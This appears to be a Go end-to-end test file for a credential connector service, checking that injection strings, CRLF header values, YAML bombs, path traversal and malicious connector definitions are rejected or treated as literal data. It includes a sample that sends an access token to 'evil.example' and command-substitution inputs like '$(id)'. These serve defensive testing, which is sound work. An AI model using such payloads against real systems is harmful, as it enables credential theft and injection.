package e2e

import (
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// keyed is the definition of a provider at a host, with a key in a header and a value in the query.
func keyed(host string) string {
	return fmt.Sprintf(`id: keyed
name: Keyed
inputs: {account: {label: Account, required: false}}
hosts: ["%[1]s"]
auth:
  - id: key
    kind: api_key
    fields: {key: {label: Key, type: password}}
    apply: {headers: {X-Key: "${fields.key}"}}
api: {base_url: "https://%[1]s/api"}
test: {get: /me, query: {account: "${inputs.account}", fixed: "1"}}
`, host)
}

// What a person types is data: no formula in it is worked out, and no header or parameter comes of it. (E01, E04)
func TestWhatAPersonTypesIsData(t *testing.T) {
	t.Parallel()
	p := newProvider(t, func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, `{}`) })
	i := Serve(t, append(p.Settings(t), "DOWEL_CONNECTORS_DIR="+Definitions(t, map[string]string{"keyed": keyed(p.Host)}))...)
	literal := []string{
		"${fields.key}", "${1+1}", "${inputs.account}", "$${x}", "{{.Secret}}", "{{7*7}}", "<%= 7*7 %>", "#{7*7}", "%s%n%x", `"}{"`, "a&fixed=2", "a;b=c", "${env('HOME')}", "$(id)", "`id`",
	}
	for _, value := range literal {
		before := len(p.Requests())
		a := i.Ask(http.MethodPost, "/api/v1/connections", map[string]any{
			"connector": "keyed", "end_user": "somebody", "answers": map[string]string{"key": value, "account": value},
		}, nil)
		got := p.Requests()[before:]
		if a.Status != http.StatusCreated || len(got) != 1 {
			t.Errorf("%q: %d %s, %d requests", value, a.Status, a.Body, len(got))
			continue
		}
		u := strings.Fields(got[0])[1]
		req, err := http.NewRequest(http.MethodGet, u, nil)
		if err != nil {
			t.Fatal(err)
		}
		if q := req.URL.Query(); q.Get("account") != value || q.Get("fixed") != "1" || len(q) != 2 || !strings.Contains(got[0], "  "+value+" ") {
			t.Errorf("%q was sent as %q", value, got[0])
		}
	}
	before := len(p.Requests())
	for _, value := range []string{"a\r\nX-Evil: 1", "a\nb", "a\x00b", "a\rb", "\x7f"} {
		a := i.Ask(http.MethodPost, "/api/v1/connections", map[string]any{
			"connector": "keyed", "end_user": "somebody", "answers": map[string]string{"key": value},
		}, nil)
		if a.Status != http.StatusBadRequest {
			t.Errorf("%q: %d %s", value, a.Status, a.Body)
		}
	}
	if n := len(p.Requests()) - before; n > 0 {
		t.Errorf("%d requests were made of control characters", n)
	}
}

// A definition that is changed under a connection does not send its credential to another host. (E03, D07)
func TestAChangedDefinitionDoesNotMoveACredential(t *testing.T) {
	t.Parallel()
	answer := func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, `{}`) }
	old, thief := newProvider(t, answer), newProvider(t, answer)
	dir := Definitions(t, map[string]string{"keyed": keyed(old.Host)})
	i := Serve(t, append(old.Settings(t), "DOWEL_CONNECTORS_DIR="+dir)...)
	id := i.importTyped(t, "keyed", map[string]string{"key": "hunter2"})
	i.Stop()
	if err := os.WriteFile(filepath.Join(dir, "keyed.yaml"), []byte(keyed(thief.Host)), 0o600); err != nil {
		t.Fatal(err)
	}
	i.Restart(t)
	if a := i.Ask(http.MethodPost, "/api/v1/connections/"+id+"/test", nil, nil); a.Status != http.StatusOK {
		t.Errorf("test: %d %s", a.Status, a.Body)
	}
	if a := i.Ask(http.MethodGet, "/api/v1/connections/"+id+"/token", nil, nil); strings.Contains(string(a.Body), thief.Host) || !strings.Contains(string(a.Body), old.Host) {
		t.Errorf("the token's request is for %s", a.Body)
	}
	if len(old.Requests()) != 1 || len(thief.Requests()) != 0 {
		t.Errorf("the old host was asked %v, the new one %v", old.Requests(), thief.Requests())
	}
}

// Files that would blow up, or send secrets away, are left out with their findings; the rest is served. (E02, E05, E10)
func TestBadDefinitionsAreLeftOutAndTheRestIsServed(t *testing.T) {
	t.Parallel()
	laughs := "id: laughs\nname: L\na0: &a0 [x,x,x,x,x,x,x,x,x]\n"
	for k := range 12 {
		laughs += fmt.Sprintf("a%[2]d: &a%[2]d [*a%[1]d,*a%[1]d,*a%[1]d,*a%[1]d,*a%[1]d,*a%[1]d,*a%[1]d,*a%[1]d,*a%[1]d]\n", k, k+1)
	}
	good := Plain("good", rotating)
	bad := map[string]string{
		"laughs":    laughs,
		"deep":      "id: deep\nname: D\nhosts: " + strings.Repeat("[", 50_000) + "\n",
		"long":      "id: long\nname: " + strings.Repeat("x", 5<<20) + "\n",
		"twice":     strings.Replace(Plain("twice", rotating), "id: twice\n", "id: twice\nid: twice\n", 1),
		"unknown":   Plain("unknown", rotating) + "surprise: true\n",
		"binary":    "\x00\x01\x02\xff\xfe",
		"empty":     "",
		"path":      strings.Replace(Plain("path", rotating), "id: path\n", "id: ../../etc/passwd\n", 1),
		"elsewhere": strings.Replace(Plain("elsewhere", rotating), "test: {get: /me}", `test: {get: "https://evil.example/?t=${credential.access_token}"}`, 1),
		"browser":   strings.Replace(Plain("browser", rotating), `authorize"}`, `authorize", params: {x: "${app.client_secret}"}}`, 1),
		"captured":  strings.Replace(Plain("captured", rotating), "client_auth: body}\n    refresh", "client_auth: body, answer: {capture: {t: response.body.refresh_token}}}\n    refresh", 1),
		"plain":     strings.Replace(Plain("plain", rotating), `token: {url: "https`, `token: {url: "http`, 1),
		"wide":      strings.Replace(Plain("wide", rotating), "hosts: [wide.example.com]", `hosts: ["*"]`, 1),
		"code":      strings.Replace(Plain("code", rotating), "response.body.id", "'env(\"HOME\")'", 1),
	}
	bad["good"] = good
	dir := Definitions(t, bad)
	start := time.Now()
	i := Serve(t, "DOWEL_CONNECTORS_DIR="+dir)
	took, peak := time.Since(start), i.PeakMemory()
	var list struct {
		Connectors []struct {
			ID string `json:"id"`
		} `json:"connectors"`
	}
	i.Get(t, "/api/v1/connectors", &list)
	served := map[string]bool{}
	for _, c := range list.Connectors {
		served[c.ID] = true
	}
	for id := range bad {
		if served[id] != (id == "good") {
			t.Errorf("%s is served: %v", id, served[id])
		}
		if id != "good" && !strings.Contains(i.Log(), id+".yaml") {
			t.Errorf("the log says nothing about %s.yaml", id)
		}
	}
	t.Logf("%d bad definitions left out; started within %v with %d MiB at most", len(bad)-1, took.Round(10*time.Millisecond), peak>>20)
	if len(served) < 17 || peak > 128<<20 {
		t.Errorf("%d connectors are served, with %d MiB at most", len(served), peak>>20)
	}
	for id := range bad {
		code, out, _ := Command(t, nil, "connectors", "lint", filepath.Join(dir, id+".yaml"))
		if (code == 0) != (id == "good") || id != "good" && !strings.Contains(out, id+".yaml:") {
			t.Errorf("lint %s: %d %.300s", id, code, out)
		}
	}
}
